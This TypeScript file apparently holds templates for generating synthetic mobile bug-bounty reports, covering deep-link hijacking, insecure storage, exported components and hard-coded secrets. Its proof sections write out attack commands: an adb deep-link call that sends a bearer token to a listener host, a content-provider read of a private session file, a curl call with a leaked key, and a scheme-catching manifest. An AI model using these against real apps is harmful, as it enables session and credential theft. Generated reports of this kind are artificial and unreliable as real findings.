import type { VulnerabilityClass } from './vulnerability-class.ts'

const deepLink: VulnerabilityClass = {
  key: 'deep-link',
  type: 'Mobile deep link',
  cwe: 939,
  weight: 7,
  surfaces: ['mobile'],
  shape: 'click',
  severities: [
    ['High', 5],
    ['Medium', 4],
  ],
  places: [
    { path: '«slug»://web?url=', parameter: 'url', detail: 'the built-in browser' },
    { path: '«slug»://auth/callback', parameter: 'code', detail: 'the sign-in flow' },
    { path: '«slug»://pay?to=', parameter: 'to', detail: 'a payment' },
  ],
  titles: [
    'Deep link hijack: «path» opens any page in «detail» with the session',
    'Another app can claim `«slug»://` and receive `«parameter»`',
    'Unvalidated deep link `«path»` → token theft («bundle»)',
  ],
  summaries: [
    'The app opens whatever `«parameter»` says in «detail» and adds the `Authorization` header. A link on a web page is enough.',
    'The scheme `«slug»://` may be registered by any app. With mine installed next to yours, `«parameter»` of «detail» comes to me.',
  ],
  steps: [
    [
      'Install version «appVersion» of `«bundle»` and sign in.',
      'Open the page below in the phone’s browser and tap the link.',
      'Look at the log of `«listener»`: the token is there.',
    ],
  ],
  proofs: [
    [
      {
        say: 'From a computer with a cable, the same as tapping the link:',
        lang: 'bash',
        code: `$ adb shell am start -a android.intent.action.VIEW -d '«path»https://«listener»/' «bundle»

# access log at «listener»
«ip» "GET / HTTP/2" 200 "Authorization: Bearer «jwt»"`,
      },
    ],
    [
      {
        say: 'Manifest of my demo app:',
        lang: 'xml',
        code: `<activity android:name=".Catch" android:exported="true">
  <intent-filter>
    <action android:name="android.intent.action.VIEW"/>
    <category android:name="android.intent.category.BROWSABLE"/>
    <data android:scheme="«slug»"/>
  </intent-filter>
</activity>`,
      },
    ],
  ],
  impacts: [
    'One tap and the session belongs to somebody else: «secrets» can be read with it.',
    'A harmless looking app steals the sign-in of every «customer» who has both installed.',
  ],
  fixes: [
    'Open own hosts only, do not add the header for others, and use verified app links in place of the scheme.',
  ],
  notes: ['Reproduced on a Pixel 8, app «appVersion». iOS build asks before opening. Token has 30 minutes.'],
}

const insecureStorage: VulnerabilityClass = {
  key: 'insecure-storage',
  type: 'Mobile data storage',
  cwe: 312,
  weight: 6,
  surfaces: ['mobile'],
  shape: 'local',
  severities: [
    ['High', 1],
    ['Medium', 5],
    ['Low', 5],
  ],
  places: [
    { path: 'shared_prefs/session.xml', parameter: 'refreshToken', detail: 'in plain text' },
    { path: 'Library/Caches/http-cache.db', parameter: 'response', detail: 'after signing out' },
    { path: 'files/logs/app.log', parameter: 'pin', detail: 'in the log of the app' },
    {
      path: 'databases/offline.db',
      parameter: '«textField»',
      detail: 'without encryption and part of the backup',
    },
  ],
  titles: [
    'Insecure storage: `«parameter»` is kept «detail» (`«path»`)',
    '«bundle» keeps `«parameter»` «detail»',
    'Sensitive data in `«path»` of the app',
  ],
  summaries: [
    'The app keeps `«parameter»` «detail» in `«path»`. Whoever gets hold of a backup or of the unlocked phone can read it.',
    'After normal use of the app I found `«parameter»` in `«path»`, «detail».',
  ],
  steps: [
    ['Use the app for a minute («appVersion»).', 'Make a backup, or use a rooted phone.', 'Read `«path»`.'],
  ],
  proofs: [
    [
      {
        say: 'On the phone:',
        lang: 'bash',
        code: `$ adb shell run-as «bundle» cat «path» | head -5
<map>
    <string name="«parameter»">«token»</string>
    <string name="user">«me»</string>
</map>`,
      },
    ],
  ],
  impacts: [
    'A lost phone or a backup in the cloud gives away the session; it is valid for 90 days.',
    '«Many» can be read offline, without the PIN of the app.',
  ],
  fixes: ['Use the key store of the system and leave the file out of backups.'],
  notes: ['Right, file is there. Needs root or a backup, therefore Low to Medium by our mobile policy.'],
}

const exportedComponent: VulnerabilityClass = {
  key: 'exported-component',
  type: 'Mobile deep link',
  cwe: 926,
  weight: 5,
  surfaces: ['mobile'],
  shape: 'local',
  severities: [
    ['High', 3],
    ['Medium', 6],
  ],
  places: [
    { path: '.share.FileProvider', parameter: 'content URI', detail: 'the provider' },
    { path: '.debug.ConfigActivity', parameter: 'baseUrl', detail: 'the activity for testers' },
    { path: '.web.HybridActivity', parameter: 'javascript bridge', detail: 'the web view' },
  ],
  titles: [
    'Exported component `«path»` of «bundle» can be used by any app',
    '«Detail» `«path»` is exported: «parameter» under control of others',
    'Any app on the phone reads files of «bundle» through `«path»`',
  ],
  summaries: [
    '`«path»` is exported without a permission. Another app without any rights uses «detail» to reach the private files.',
    'By starting `«path»` from another app I control the «parameter», and with it what the app does in the name of the user.',
  ],
  steps: [
    [
      'Install the proof app (attached, no permissions).',
      'Press its only button.',
      'It shows a file from the private directory of `«bundle»`.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Without an app of my own:',
        lang: 'bash',
        code: `$ adb shell content read --uri 'content://«bundle».files/root/data/data/«bundle»/shared_prefs/session.xml' | head -2
<?xml version='1.0' encoding='utf-8' standalone='yes' ?>
<map><string name="access">«jwt»</string></map>`,
      },
    ],
  ],
  impacts: [
    'Every game or torch app may take over the account.',
    'Private files and the session leave the sandbox of the app.',
  ],
  fixes: ['Set `android:exported="false"` and keep the provider to one directory.'],
  notes: ['Works on Android 13 to 15. Provider path is "/", should be "/shared/".'],
}

const appSecret: VulnerabilityClass = {
  key: 'app-secret',
  type: 'Hard-coded secret',
  cwe: 798,
  weight: 5,
  surfaces: ['mobile', 'device'],
  shape: 'read',
  severities: [
    ['High', 4],
    ['Medium', 4],
    ['Low', 3],
  ],
  places: [
    { path: 'res/values/strings.xml', parameter: 'sms_gateway_key', detail: 'the key of the SMS gateway' },
    { path: 'lib/arm64-v8a/libcore.so', parameter: 'AES key', detail: 'the key that encrypts all backups' },
    { path: 'assets/config.prod.json', parameter: 'partnerSecret', detail: 'the secret of a partner API' },
    {
      path: 'squashfs-root/etc/provision.conf',
      parameter: 'mqtt_password',
      detail: 'one password for all devices',
      on: ['device'],
    },
  ],
  titles: [
    'Hard-coded `«parameter»` in `«path»`: «detail»',
    '«Detail» is inside the package (`«path»`)',
    'Secret in the app: `«parameter»` works against «host»',
  ],
  summaries: [
    'Unpacking the package shows «detail» in `«path»`. It is the same for every installation and it works.',
    '`«parameter»` in `«path»` is «detail». I made one read-only call to see whether it is valid.',
  ],
  steps: [['Unpack the current release.', 'Search for `«parameter»`.', 'Use it for the call below.']],
  proofs: [
    [
      {
        say: 'Unpacking and finding it:',
        lang: 'bash',
        code: `$ grep -rn '«parameter»' out/ | head -1
out/«path»:48:  "«parameter»": "9f3a************************c1"

$ curl -s -H 'X-Key: 9f3a…' https://«host»/v1/quota
{"plan":"enterprise","remaining":184220}`,
      },
    ],
  ],
  impacts: [
    'Everybody who can unpack the package has the rights of the app’s owner: sending messages at the cost of «company», or reading what they should not.',
    'The secret cannot be changed without a new release, and old ones stay in use for months.',
  ],
  fixes: ['Let the own server make this call and rotate the secret.'],
  notes: ['Key is valid. It is limited to sending, quota alerts exist. Rotation needs a forced update.'],
}

export const mobileClasses: readonly VulnerabilityClass[] = [
  deepLink,
  insecureStorage,
  exportedComponent,
  appSecret,
]
